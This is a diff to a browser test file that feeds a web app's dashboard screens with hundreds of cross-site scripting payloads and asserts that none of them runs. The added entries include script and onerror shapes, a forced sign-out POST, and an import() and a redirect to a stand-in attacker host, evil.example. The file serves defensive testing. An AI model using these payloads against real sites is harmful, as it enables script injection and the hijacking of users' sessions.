@@ -5,7 +5,17 @@ import { after, before, test } from "node:test";
 import { launch, signIn, visit } from "../support/browser.mjs";
 import { start } from "../support/server.mjs";
 
-const ACTS = ["pwned(1)", "pwned`1`", "alert(1)", "top.pwned(1)"];
+const ACTS = [
+  "pwned(1)",
+  "pwned`1`",
+  "alert(1)",
+  "top.pwned(1)",
+  "window['pwned'](1)",
+  "[1].map(pwned)",
+  "import('//evil.example/x.js')",
+  "fetch('/sign-out',{method:'POST'})",
+  "location='//evil.example/'",
+];
 const SHAPES = [
   (act) => `<script>${act}</script>`,
   (act) => `<img src=x onerror=${act}>`,
@@ -39,40 +49,62 @@ let server, browser;
 before(async () => ([server, browser] = await Promise.all([start(), launch()])));
 after(async () => (await browser?.close(), await server?.stop()));
 
-test(`${PAYLOADS.length * 4} payloads go through every screen, none is run`, async () => {
-  assert.ok(PAYLOADS.length * 4 >= 200);
-  const project = await server.project("app", "--name", PAYLOADS[0]);
-  const item = (payload, i) => ({
-    type: "identify",
-    email: `x${i}@example.com`,
-    name: payload.slice(0, 200),
-    user_id: payload.slice(0, 200),
-    params: { [payload]: payload, list: [payload], deep: { [payload]: { [payload]: payload } }, plan: payload, mrr: i },
-  });
-  await server.batch(project, PAYLOADS.map(item));
-  await server.batch(project, PAYLOADS.map((payload, i) => ({ type: "identify", email: `x${i}@example.com`, params: { plan: `again ${payload}` } })));
-  await server.identify(project, { email: `"<script>pwned(2)</script>"@example.com` }).catch(() => {}); // refused or shown as text
+/** Every so many of the payloads. */
+const sample = (every) => PAYLOADS.filter((_, i) => i % every === 0);
+
+test(`${PAYLOADS.length} payloads go through every screen, none is run`, async () => {
+  assert.ok(new Set(PAYLOADS).size >= 200);
+  await fill();
   const { page, faults } = await visit(browser, server);
   await signIn(server, page);
-
-  const column = (payload) => `params.${JSON.stringify(payload)}`;
-  const screens = ["/customers", "/customers?project=app", "/projects", "/projects/app", "/projects/app/start", "/segments", "/members", "/keys", "/settings"];
-  for (const path of screens) await look(page, path);
-  for (const payload of PAYLOADS) {
-    const filter = encodeURIComponent(payload);
-    const condition = encodeURIComponent(`${column(payload)} = ${JSON.stringify(payload)}`);
-    await look(page, `/customers?filter=${filter}&project=app`);
-    await look(page, `/customers?filter=${condition}&columns=${encodeURIComponent(column(payload))}&sum=${encodeURIComponent(column(payload))}`);
+  for (const path of ["/projects", "/projects/app", "/projects/app/start", "/segments", "/members", "/keys", "/settings"]) {
+    await look(page, path);
   }
-  for (let i = 0; i < PAYLOADS.length; i += 4) await look(page, `/customers/x${i}@example.com`);
-  for (const payload of PAYLOADS.slice(0, 25)) {
-    await look(page, `/sign-in?next=${encodeURIComponent(payload)}`);
-    await look(page, `/${encodeURIComponent(payload)}`);
-    await look(page, `/customers?project=${encodeURIComponent(payload)}&sort=${encodeURIComponent(payload)}`);
+  await lookThrough(page, "/customers?columns=params.plan,params.list,params.deep,user_id&sort=email");
+  for (let i = 0; i < PAYLOADS.length; i += 10) await look(page, `/customers/many${i}@example.com`);
+  for (const payload of sample(6)) {
+    const path = `params.${JSON.stringify(payload)}`;
+    await look(page, `/customers?project=app&filter=${encodeURIComponent(payload)}`);
+    const filter = encodeURIComponent(`${path} = ${JSON.stringify(payload)}`);
+    await look(page, `/customers?filter=${filter}&columns=${encodeURIComponent(path)}&sum=${encodeURIComponent(path)}`);
+  }
+  for (const payload of sample(20).map(encodeURIComponent)) {
+    for (const path of [`/sign-in?next=${payload}`, `/${payload}`, `/customers?project=${payload}&sort=${payload}`]) {
+      await look(page, path);
+    }
   }
   // Refused addresses are 4xx, which browsers log; everything else would be a fault.
   assert.deepEqual(faults.filter((fault) => !/status of 4\d\d/.test(fault)), []);
 });
+
+/** Stores every payload as name, user_id, value and key, at the top and deep down, and as a change. */
+async function fill() {
+  const key = await server.project("app", "--name", PAYLOADS[0]);
+  const identify = (email, rest) => ({ type: "identify", email, ...rest });
+  const each = (payload, i) => identify(`x${i}@example.com`, {
+    name: payload.slice(0, 200),
+    user_id: payload.slice(0, 200),
+    params: { plan: payload, list: [payload], deep: { inner: payload }, mrr: i },
+  });
+  await server.batch(key, PAYLOADS.map(each));
+  await server.batch(key, PAYLOADS.map((payload, i) => identify(`x${i}@example.com`, { params: { plan: `again ${payload}` } })));
+  for (let i = 0; i < PAYLOADS.length; i += 10) {
+    const ten = PAYLOADS.slice(i, i + 10).map((payload) => [payload, payload]);
+    const params = { ...Object.fromEntries(ten), deep: Object.fromEntries(ten) };
+    await server.identify(key, { email: `many${i}@example.com`, params });
+  }
+  await server.identify(key, { email: `"<script>pwned(2)</script>"@example.com` }).catch(() => {}); // refused, or shown as text
+}
+
+/** Looks at every page of a table. */
+async function lookThrough(page, path) {
+  for (let next = path, pages = 0; next; pages++) {
+    assert.ok(pages < 20, "the table ends");
+    await look(page, next);
+    const link = page.getByRole("link", { name: "Next page" });
+    next = (await link.count()) ? await link.getAttribute("href") : null;
+  }
+}
 
 /** Opens a page, waits for its parts, and touches what a hand would touch. */
 async function look(page, path) {
@@ -86,7 +118,7 @@ test("a payload typed into the box stays text", async () => {
   const { page, quiet } = await visit(browser, server);
   await signIn(server, page);
   await page.goto("/customers?project=app");
-  for (const payload of PAYLOADS.filter((_, i) => i % 9 === 0)) {
+  for (const payload of sample(9)) {
     await page.locator("#filter").fill(`${payload} `);
     await page.waitForTimeout(120);
     assert.equal(await page.locator(".ink").innerText().then((text) => text.trim()), payload.trim());
